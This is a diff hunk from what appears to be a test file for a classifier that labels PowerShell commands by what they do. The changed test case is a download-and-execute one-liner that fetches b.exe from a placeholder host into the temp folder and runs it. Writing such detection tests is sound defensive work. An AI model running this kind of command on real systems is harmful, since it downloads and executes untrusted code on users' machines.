@@ -24,7 +24,7 @@ PS = Kind.POWERSHELL
             (Act.RUNS_COMMAND, Act.DOWNLOADS),
         ),
         (
-            '$p = "$env:TEMP\\b.exe"\n(New-Object Net.WebClient).DownloadFile("http://a.invalid/b", $p)\n& $p',
+            '$p = "$env:TEMP\\b.exe"\n(New-Object Net.WebClient).DownloadFile("http://a.invalid/", $p)\n& $p',
             (Act.RUNS_COMMAND, Act.DOWNLOADS),
         ),
         (
